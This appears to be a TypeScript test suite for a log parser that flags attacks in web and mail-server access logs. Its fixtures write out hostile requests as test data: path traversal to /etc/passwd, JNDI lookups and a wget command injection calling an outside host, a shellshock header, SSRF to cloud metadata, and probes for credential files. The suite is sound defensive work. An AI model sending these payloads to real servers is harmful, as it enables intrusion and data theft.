import { deepEqual, equal, notEqual, ok } from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { WebRequested } from '../../events/traces.ts'
import { instant } from '../../lib/time.ts'
import { formatOf, readOne, shown, unfit, where } from '../stamped/testing.ts'
import { accessLog, webLogFormats } from './format.ts'
import { LITERAL_MIN, Literals } from './literals.ts'
import { patterns } from './patterns.ts'
import { KEPT_MAX, PARAMETER_LONG, TARGET_MAX, unescaped } from './request.ts'

const line = (request: string, status = 200, bytes: number | '-' = 512, rest = ' "-" "UA"') =>
  `203.0.113.9 - - [22/Nov/2026:09:00:00 +0900] "${request}" ${status} ${bytes}${rest}`
const web = (text: string): WebRequested => {
  const told = readOne(text)
  ok(typeof told !== 'string' && told.kind === 'web.requested', `${JSON.stringify(told)} «${text}»`)
  return told
}

test('every field of a request that means something is taken from its place', () => {
  deepEqual(
    shown(
      readOne(
        'webmail.example.jp:443 203.0.113.9 - alice [22/Nov/2026:09:00:00 +0900] "POST /?_task=login&_action=login HTTP/2.0" 302 1234 "https://webmail.example.jp/" "Mozilla/5.0 (X11)" "198.51.100.1" 0.123',
      ),
    ),
    {
      kind: 'web.requested',
      what: 'login',
      pattern: 'roundcube-login',
      method: 'POST',
      path: '/',
      httpStatus: 302,
      bytesOut: 1234,
      clientIp: '203.0.113.9',
      saslUsername: 'alice',
      site: 'webmail.example.jp:443',
      userAgent: 'Mozilla/5.0 (X11)',
      program: 'web',
    },
  )
  const told = web(line('GET /.env HTTP/1.1', 404))
  equal(told.at, instant('2026-11-22T00:00:00Z'))
  deepEqual(told.source, { file: 'a.log', line: 1 })
})

/** Code, and a request with its status and size. */
const known: readonly (readonly [string, string, number?, number?])[] = [
  ['roundcube-login', 'POST /roundcube/?_task=login HTTP/1.1', 401],
  ['horde-login', 'POST /horde/login.php HTTP/1.1', 302],
  ['form-login', 'POST /shop/login.php HTTP/1.1', 302],
  ['horde-imp-login', 'POST /horde/imp/redirect.php HTTP/1.1', 302],
  ['sogo-login', 'POST /SOGo/connect HTTP/1.1', 403],
  ['squirrelmail-login', 'POST /squirrelmail/src/redirect.php HTTP/1.1', 302],
  ['zimbra-login', 'POST /service/soap/AuthRequest HTTP/1.1'],
  ['rainloop-login', 'POST /?/Ajax/&q[]=/0/Login/ HTTP/1.1'],
  ['owa-login', 'POST /owa/auth.owa HTTP/1.1', 302],
  ['activesync-login', 'OPTIONS /Microsoft-Server-ActiveSync HTTP/1.1', 401],
  ['activemail-login', 'POST /am_bin/amlogin HTTP/1.1', 302],
  ['cpanel-login', 'POST /login/?login_only=1 HTTP/1.1', 200],
  ['path-traversal', 'POST /cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh HTTP/1.1', 200],
  ['path-traversal', 'GET /a?file=%252e%252e%252fetc%252fpasswd HTTP/1.1', 404],
  ['path-traversal', 'GET /x?page=..\\..\\boot.ini HTTP/1.1', 404],
  ['jndi', 'GET /?x=$%7Bjndi:ldap://198.51.100.7/a%7D HTTP/1.1', 404],
  ['ognl', 'GET /%25%7B(%23a=1)%7D/ HTTP/1.1', 404],
  ['template', 'GET /?name=%7B%7B7*7%7D%7D HTTP/1.1', 404],
  ['ssrf', 'GET /?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1', 404],
  ['remote-include', 'GET /a.php?dir=http://198.51.100.7/x.txt? HTTP/1.1', 404],
  ['php-wrapper', 'POST /index.php?-d+allow_url_include%3d1 HTTP/1.1', 404],
  ['sql-injection', "GET /?id=1'%20UNION%20SELECT%20password HTTP/1.1", 404],
  ['command-injection', 'GET /ping?host=1;wget%20http://198.51.100.7/a HTTP/1.1', 404],
  ['script-injection', 'GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1', 404],
  ['dot-env', 'GET /.env HTTP/1.1', 404],
  ['dot-git', 'GET /.git/config HTTP/1.1', 404],
  ['secret-file', 'GET /.aws/credentials HTTP/1.1', 404],
  ['wordpress-login', 'POST /wp-login.php HTTP/1.1', 200],
  ['phpunit', 'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 404],
  ['database-console', 'GET /phpMyAdmin/index.php HTTP/1.1', 404],
  ['framework', 'GET /actuator/health HTTP/1.1', 404],
  ['appliance', 'GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1', 404],
  ['backup-file', 'GET /backup.zip HTTP/1.1', 404],
  ['roundcube-upload', 'POST /?_task=settings&_remote=1&_from=edit-!%22x&_action=upload HTTP/1.1'],
  ['roundcube-files', 'GET /roundcube/logs/errors.log HTTP/1.1', 403],
  [
    'proxyshell',
    'POST /autodiscover/autodiscover.json?@a.jp/powershell/&Email=autodiscover/autodiscover.json%3F@a.jp HTTP/1.1',
  ],
  ['proxylogon', 'POST /ecp/y.js HTTP/1.1'],
  [
    'zimbra-mboximport',
    'POST /service/extension/backup/mboximport?account-name=admin HTTP/1.1',
    401,
  ],
  ['activemail-overflow', `GET /am_bin/amlogin?x=${'A'.repeat(PARAMETER_LONG)} HTTP/1.1`, 500],
  ['cgi-overflow', `GET /cgi-bin/x?a=${'A'.repeat(PARAMETER_LONG)} HTTP/1.1`, 500],
  ['shell-name', 'GET /images/c99.php HTTP/1.1', 200],
  ['shell-folder', 'POST /skins/elastic/images/a.php HTTP/1.1', 200],
  ['shell-folder', 'POST /temp/x.phtml HTTP/1.1', 200],
  ['shell-command', 'GET /a.php?cmd=whoami HTTP/1.1', 200],
  ['shell-command', 'GET /a.aspx?exec=cat%20/x HTTP/1.1', 200],
  ['shell-exchange', 'POST /owa/auth/zz.aspx HTTP/1.1', 200],
  ['shell-exchange', 'GET /aspnet_client/system_web/x.aspx HTTP/1.1', 200],
  [
    'roundcube-download',
    'GET /?_task=mail&_uid=7&_part=2&_action=get&_download=1 HTTP/1.1',
    200,
    90_000,
  ],
  [
    'roundcube-download',
    'POST /?_task=mail&_action=plugin.zipdownload.messages HTTP/1.1',
    200,
    9_000_000,
  ],
  ['sogo-download', 'POST /SOGo/so/alice/Mail/0/folderINBOX/exportFolder HTTP/1.1', 200],
  ['zimbra-download', 'GET /home/alice@example.jp/?fmt=tgz HTTP/1.1', 200, 9_000_000],
  ['mail-archive', 'GET /files2/alice.mbox HTTP/1.1', 200],
  ['mail-archive', 'GET /x/mail.pst HTTP/1.1', 206],
  ['database-dump', 'GET /db/customers.sql.gz HTTP/1.1', 200],
  ['large-archive', 'GET /export/mail-2026.zip HTTP/1.1', 200, 900_000_000],
  ['large-answer', 'POST /owa/service.svc?action=Unknown HTTP/1.1', 200, 9_000_000],
  ['roundcube-read', 'GET /?_task=mail&_uid=7&_mbox=INBOX&_action=show HTTP/1.1'],
  ['sogo-read', 'GET /SOGo/so/alice/Mail/0/folderINBOX/7/view HTTP/1.1'],
  ['horde-read', 'GET /horde/imp/dynamic.php?page=message HTTP/1.1'],
  ['squirrelmail-read', 'GET /src/read_body.php?mailbox=INBOX HTTP/1.1'],
  ['zimbra-read', 'POST /service/soap/GetMsgRequest HTTP/1.1'],
  ['rainloop-read', 'GET /?/Json/&q[]=/0/Message/abc HTTP/1.1'],
  ['owa-read', 'POST /owa/service.svc?action=GetItem HTTP/1.1'],
  ['ews-read', 'POST /EWS/Exchange.asmx HTTP/1.1'],
  ['activesync-read', 'POST /Microsoft-Server-ActiveSync?Cmd=Sync&User=alice HTTP/1.1'],
]

test('each known form of request has its code', () => {
  deepEqual(
    known.map(([, request, status, bytes]) => web(line(request, status, bytes)).pattern),
    known.map(([code]) => code),
  )
})

test('what people and machines do every day says nothing', () => {
  const day = [
    'GET / HTTP/1.1',
    'GET /?_task=login HTTP/1.1',
    'GET /skins/elastic/styles/styles.min.css?s=1718000000 HTTP/1.1',
    'GET /program/js/app.min.js HTTP/1.1',
    'POST /?_task=mail&_action=refresh HTTP/1.1',
    'POST /?_task=settings&_from=edit-identity&_action=upload HTTP/1.1',
    'GET /.well-known/acme-challenge/abc HTTP/1.1',
    'GET /images/logo.png HTTP/1.1',
    'GET /owa/auth/logon.aspx?replaceCurrent=1 HTTP/1.1',
    'GET /ecp/default.aspx HTTP/1.1',
    'POST /autodiscover/autodiscover.xml HTTP/1.1',
    'GET /index.php?cmd=list&page=2 HTTP/1.1',
    'GET /search?q=select+union+members HTTP/1.1',
    'GET /out.php?url=https://www.example.jp/page HTTP/1.1',
    'GET /pub/manual.zip HTTP/1.1',
    'GET /?_task=mail&_mbox=INBOX%2F.Forward&_action=refresh HTTP/1.1',
    'GET /?_task=addressbook&_action=search&_q=powershell+and+wp-login.php HTTP/1.1',
    'GET /go?to=/wp-login.php HTTP/1.1',
    'GET /%E7%86%8A%E6%9C%AC HTTP/1.1',
    '\\x16\\x03\\x01\\x01',
    '-',
    '',
  ]
  deepEqual(
    day.map((request) => readOne(line(request))),
    day.map(() => 'harmless'),
  )
})

/** An expression as a logging library looks it up. */
const asked = (text: string): string => `$\{${text}}`

test('a weakness in the user agent or the referer is seen, and only there', () => {
  for (const rest of [
    ` "-" "${asked('jndi:ldap://198.51.100.7/a')}"`,
    ` "${asked(`jndi:${asked('lower:l')}dap://198.51.100.7/a`)}" "UA"`,
  ])
    equal(web(line('GET / HTTP/1.1', 200, 5, rest)).pattern, 'jndi')
  equal(web(line('GET / HTTP/1.1', 200, 5, ' "-" "() { :; }; /bin/id"')).pattern, 'shellshock')
  equal(
    readOne(line('GET / HTTP/1.1', 200, 5, ' "https://a/?../../etc/passwd" "wp-login"')),
    'harmless',
  )
})

test('the address is the peer’s, whatever stands in the name, the request or the headers', () => {
  const fake = '[01/Jan/2020:00:00:00 +0000] \\"GET /x HTTP/1.1\\" 200 5'
  for (const text of [
    `203.0.113.9 - x ${fake} [22/Nov/2026:09:00:00 +0900] "GET /.env HTTP/1.1" 404 5 "-" "-"`,
    `203.0.113.9 - 198.51.100.1 - - [22/Nov/2026:09:00:00 +0900] "GET /.env HTTP/1.1" 404 5`,
    line('GET /.env?198.51.100.1 - - [22/Nov/2026:09:00:00 +0900] \\"GET HTTP/1.1', 404),
    line(
      'GET /.env HTTP/1.1',
      404,
      5,
      ' "198.51.100.1 - - [x] \\"GET / HTTP/1.1\\" 200" "client 198.51.100.1"',
    ),
    line('GET /.env HTTP/1.1', 404, 5, ' "-" "UA" "198.51.100.1, 127.0.0.1"'),
    `[2001:db8::9]:4711 - - [22/Nov/2026:09:00:00 +0900] "GET /.env HTTP/1.1" 404 5`.replace(
      '[2001:db8::9]:4711',
      '203.0.113.9',
    ),
  ])
    equal(web(text).clientIp, '203.0.113.9', text)
  // Two addresses at the front: which of them is a header, nobody can tell.
  equal(
    web('198.51.100.1 203.0.113.9 - - [22/Nov/2026:09:00:00 +0900] "GET /.env HTTP/1.1" 404 5')
      .clientIp,
    undefined,
  )
})

test('moments with a zone, with GMT, with fractions and with the month first are told alike', () => {
  for (const moment of [
    '22/Nov/2026:09:00:00 +0900',
    '22/Nov/2026:00:00:00 GMT',
    '22/Nov/2026:00:00:00.999 +0000',
    '11/22/2026:00:00:00 -0000',
  ]) {
    const told = web(`203.0.113.9 - - [${moment}] "GET /.env HTTP/1.1" 404 5`)
    equal(Math.trunc(told.at / 1_000), instant('2026-11-22T00:00:00Z') / 1_000, moment)
  }
})

test('JSON lines of nginx, Apache, Caddy and Traefik are read by the names of their fields', () => {
  for (const fields of [
    {
      remote_addr: '203.0.113.9',
      time_iso8601: '2026-11-22T09:00:00+09:00',
      request: 'GET /.env HTTP/1.1',
      status: '404',
      http_x_forwarded_for: '198.51.100.1',
    },
    {
      time: '[22/Nov/2026:09:00:00 +0900]',
      clientip: '203.0.113.9',
      method: 'GET',
      uri: '/.env',
      status: 404,
    },
    {
      level: 'info',
      ts: 1795305600.123,
      request: {
        remote_ip: '203.0.113.9',
        remote_port: '4711',
        method: 'GET',
        host: 'a',
        uri: '/.env',
        headers: { 'User-Agent': ['x'], 'X-Forwarded-For': ['198.51.100.1'] },
      },
      status: 404,
      size: 9,
    },
    {
      ClientHost: '203.0.113.9',
      RequestMethod: 'GET',
      RequestPath: '/.env',
      DownstreamStatus: 404,
      StartUTC: '2026-11-22T00:00:00.5Z',
    },
    {
      '@timestamp': '2026-11-22T00:00:00Z',
      remote_addr: '203.0.113.9',
      request_method: 'GET',
      request_uri: '/.env',
      status: 404,
    },
  ]) {
    const told = web(JSON.stringify(fields))
    deepEqual([told.clientIp, told.pattern, told.httpStatus], ['203.0.113.9', 'dot-env', 404])
    equal(
      Math.trunc(told.at / 1_000),
      instant('2026-11-22T00:00:00Z') / 1_000,
      JSON.stringify(fields),
    )
  }
  equal(formatOf('{"remote_addr":"203.0.113.9","status":200}'), undefined)
})

test('error lines tell refused log-ins and probes, with the peer of their own place', () => {
  const nginx = (words: string) => `2026/11/22 09:00:00 [error] 12#12: *7 ${words}`
  const behind = ', client: 203.0.113.9, server: mail, request: "GET / HTTP/1.1", host: "mail"'
  const apache = (words: string, peer = '203.0.113.9:4711') =>
    `[Sun Nov 22 09:00:00.123456 2026] [auth_basic:error] [pid 12:tid 34] [client ${peer}] ${words}`
  for (const [text, wanted] of [
    [nginx(`user "alice": password mismatch${behind}`), ['login.refused', '203.0.113.9', 'alice']],
    [
      nginx(`user "al ice" was not found in "/etc/x"${behind}`),
      ['login.refused', '203.0.113.9', 'al ice'],
    ],
    [
      nginx(`user "x, client: 198.51.100.1, server: y" was not found in "/etc/x"${behind}`),
      ['login.refused', undefined, 'x, client: 198.51.100.1, server: y'],
    ],
    [
      nginx(
        `open() "/srv/.env" failed (2: No such file or directory), client: 203.0.113.9, server: m, request: "GET /.env HTTP/1.1", host: "m"`,
      ),
      ['web.requested', '203.0.113.9', undefined],
    ],
    [
      apache('AH01617: user alice: authentication failure for "/x": Password Mismatch'),
      ['login.refused', '203.0.113.9', 'alice'],
    ],
    [
      apache('AH01618: user [client 198.51.100.1] not found: /'),
      ['login.refused', '203.0.113.9', '[client 198.51.100.1]'],
    ],
    [
      apache("AH01790: user `bob' in realm `private' not found: /d/", '[2001:db8::9]:4711'),
      ['login.refused', '2001:db8::9', 'bob'],
    ],
    [
      apache('AH00126: Invalid URI in request GET /cgi-bin/.%2E/%2E%2E/etc/passwd HTTP/1.1'),
      ['web.requested', '203.0.113.9', undefined],
    ],
    [
      '[Thu Jul 11 01:21:43 2013] [error] [client 203.0.113.9] user dsf not found: /',
      ['login.refused', '203.0.113.9', 'dsf'],
    ],
    [
      'Feb 15 16:23:40 srv httpd/b1[22034]: [authz_core:error] [pid 22036] [client 203.0.113.9:59392] AH01617: user u: authentication failure for "/": Password Mismatch',
      ['login.refused', '203.0.113.9', 'u'],
    ],
  ] as const) {
    const told = readOne(text)
    ok(typeof told !== 'string', text)
    const fields = told as unknown as Record<string, unknown>
    deepEqual([told.kind, fields['clientIp'], fields['saslUsername']], wanted, text)
  }
  equal(
    readOne(apache('File does not exist: /srv/[client 198.51.100.1] user root not found')),
    'harmless',
  )
})

test('every pattern has a reason, a source and hints that can be found; codes are their own', () => {
  equal(new Set(patterns.map(({ code }) => code)).size, patterns.length)
  for (const { code, hints, why, source } of patterns) {
    ok(hints.length > 0 && hints.every((hint) => hint.length >= LITERAL_MIN), code)
    ok(why.length > 10 && source.length > 3, code)
    ok(/^[a-z-]{3,32}$/.test(code))
  }
})

test('a literal is found wherever it stands, in any case, and nothing else is', () => {
  const literals = new Literals([
    { text: 'needle', pattern: 7 },
    { text: '/.env', pattern: 8 },
  ])
  const scan = (text: string, from = 0, to = text.length) => {
    const found = new Set<number>()
    return literals.scan(text, from, to, found) ? 'unsure' : [...found]
  }
  deepEqual(scan('xxNeEdLe'), [7])
  deepEqual(scan('/.env'), [8])
  deepEqual(scan('needl'), [])
  deepEqual(scan('xneedle', 2), [])
  deepEqual(scan('needle', 0, 5), [])
  // Behind or within an escape it says that it is unsure, and is asked again without escapes.
  for (const text of ['%00needle', 'need%6ce', '/.en%76', '%2f.env', 'n\\x65edle', '%%36eeedle'])
    equal(scan(text), 'unsure', text)
  deepEqual(scan('%00 '), [])
  const pieces = fc.array(
    fc.oneof(fc.string(), fc.constantFrom('need', 'le', '%6c', '\\x65', '%', '\\')),
  )
  fc.assert(
    fc.property(pieces, pieces, (a, b) => {
      const hidden = scan(`${a.join('')}needle${b.join('')}`)
      ok(hidden === 'unsure' || hidden.includes(7))
      const bare = [...a, ...b].join('')
      const seen = scan(bare)
      if (seen !== 'unsure')
        equal(seen.includes(7), unescaped(bare).toLowerCase().includes('needle'))
    }),
    { numRuns: 2_000 },
  )
})

test('what is kept of a request has a bound and no control signs', () => {
  const long = web(
    line(`GET /.env/${'a'.repeat(300)}\u0001\u202e HTTP/1.1`, 404, 5, ` "-" "${'b'.repeat(999)}"`),
  )
  equal(long.path.length, KEPT_MAX)
  equal(long.userAgent?.length, KEPT_MAX)
  equal(web(line('GET /.env/\u0007\u202e HTTP/1.1', 404)).path, '/.env/??')
  equal(
    web(line('GET http://alice:secret@a/.env;jsessionid=SECRET HTTP/1.1', 404)).path,
    'http://a/.env',
  )
  notEqual(web(line(`GET /.env?token=secret HTTP/1.1`, 404)).path.includes('secret'), true)
  equal(
    web(line(`GET /cgi-bin/x?a=${'A'.repeat(PARAMETER_LONG - 2)} HTTP/1.1`)).pattern,
    'cgi-overflow',
  )
  equal(readOne(line(`GET /cgi-bin/x?a=${'A'.repeat(PARAMETER_LONG - 3)} HTTP/1.1`)), 'harmless')
  // What stands beyond the part that is looked at is not seen.
  equal(readOne(line(`GET /${'a'.repeat(TARGET_MAX)}/.env HTTP/1.1`)), 'harmless')
})

test('nothing that a client writes throws, names another address or takes long', () => {
  const reader = accessLog.open({ instance: 'log', defaultRealm: '', zone: 'UTC' })
  const hostile = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc
      .array(
        fc.constantFrom(
          '"',
          '\\"',
          '\\',
          ' [',
          '] "',
          '198.51.100.1',
          ' - - ',
          '[22/Nov/2026:09:00:00 +0900]',
          ' HTTP/1.1" 200 5 ',
          '/.env',
          '${jndi',
          '?cmd=id',
          '../',
          '%2e',
          '\n',
        ),
        { maxLength: 30 },
      )
      .map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(hostile, hostile, hostile, (target, referer, agent) => {
      const told = reader.read(
        line(`GET /.env${target} HTTP/1.1`, 404, 5, ` "${referer}" "${agent}"`),
        where,
      )
      if (typeof told === 'string') return
      for (const event of [told].flat()) {
        ok('clientIp' in event && event.clientIp === '203.0.113.9')
        deepEqual(unfit(event), [])
      }
    }),
  )
  fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => void readOne(text)))
})

test('a hostile line of 64 KiB costs no more than its length', () => {
  const size = 64 * 1_024
  const parts = [
    '[',
    ' [',
    '"',
    '\\"',
    '\\',
    '%2e',
    '../',
    '?cmd=',
    '=ftp://',
    ', client: 1.2.3.4, server: ',
    '${',
    '{{',
    '&a',
    ' from ',
    '[22/Nov/2026:09:00:00 +0900] ',
    '/so/x/mail/',
    '?ajax/',
    '/public/a/',
    'union select ',
    '"a":',
    ' (',
    'a b ',
  ]
  for (const part of parts) {
    const filling = part.repeat(Math.ceil(size / part.length)).slice(0, size)
    // Milliseconds each; a quadratic reading of them runs into the test's own limit.
    for (const text of [
      filling,
      line(`GET /${filling} HTTP/1.1`),
      line(`GET /?${filling} HTTP/1.1`),
      line('GET / HTTP/1.1', 200, 5, ` "${filling}" "${filling}"`),
      `203.0.113.9 - ${filling} [22/Nov/2026:09:00:00 +0900] "GET /.env HTTP/1.1" 404 5`,
      `2026/11/22 09:00:00 [error] 12#12: *7 user "${filling}`,
      `[Sun Nov 22 09:00:00 2026] [error] [client 203.0.113.9] user ${filling}`,
      `{"remote_addr":"203.0.113.9","status":1,"request":"GET /${filling}"`,
    ])
      readOne(text)
  }
})

test('lines that say nothing tell when they were written, for what a log covers', () => {
  const nine = instant('2026-11-22T00:00:00Z')
  const opened = new Map(
    webLogFormats.map((format) => [
      format.name,
      format.open({ instance: 'log', defaultRealm: '', zone: 'Asia/Tokyo' }),
    ]),
  )
  for (const [name, text, at] of [
    ['web-access', line('GET / HTTP/1.1'), nine],
    ['web-access', line('GET / HTTP/1.1').replace(':09:00:00', ':09:00:59'), nine + 59_000],
    ['web-access', line('GET / HTTP/1.1').replace('+0900', '+0000'), nine + 9 * 3_600_000],
    ['web-access', line('GET / HTTP/1.1').replace(':09:00:00', ':09:00:61'), undefined],
    [
      'web-access-json',
      '{"remote_addr":"203.0.113.9","status":200,"uri":"/","time_iso8601":"2026-11-22T09:00:00+09:00"}',
      nine,
    ],
    [
      'haproxy',
      '203.0.113.9:1 [22/Nov/2026:09:00:00.000] f b/s 0/0/0/0/0 200 1 - - ---- 0/0/0/0/0 0/0 "GET / HTTP/1.1"',
      nine,
    ],
    ['nginx-error', '2026/11/22 09:00:00 [notice] 1#1: signal', nine],
    [
      'apache-error',
      '[Sun Nov 22 09:00:00.000000 2026] [mpm_event:notice] [pid 1] AH00489: x',
      nine,
    ],
  ] as const)
    equal(opened.get(name)?.momentOf?.(text, where), at, text)
})
